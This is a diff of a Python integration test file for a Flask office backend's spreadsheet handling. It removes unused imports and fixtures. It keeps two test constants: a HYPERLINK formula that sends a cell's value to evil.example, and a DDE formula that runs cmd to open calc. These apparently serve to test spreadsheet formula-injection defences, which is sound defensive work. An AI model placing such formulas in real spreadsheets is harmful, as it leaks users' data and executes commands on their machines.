@@ -4,9 +4,7 @@ from __future__ import annotations
 
 import io
 import re
-from pathlib import Path
 
-import pytest
 from flask import Flask
 from flask.testing import FlaskClient
 from openpyxl import Workbook, load_workbook
@@ -16,20 +14,10 @@ from sqlalchemy import select
 from backend.services import tabular
 from backend.store.db import Database
 from backend.store.models import Unit
-from tests.integration.test_office_web import Seeded, make_app, seed_activity, sign_in
+from tests.integration.test_office_web import Seeded, sign_in
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?t="&A2,"查看详情")'
 DDE = "=cmd|' /C calc'!A0"
-
-
-@pytest.fixture
-def seeded(database: Database) -> Seeded:
-    return seed_activity(database)
-
-
-@pytest.fixture
-def app(database: Database, seeded: Seeded, tmp_path: Path) -> Flask:
-    return make_app(database, tmp_path)
 
 
 def send_from_board_page(client: FlaskClient, code: str, content: str) -> None:
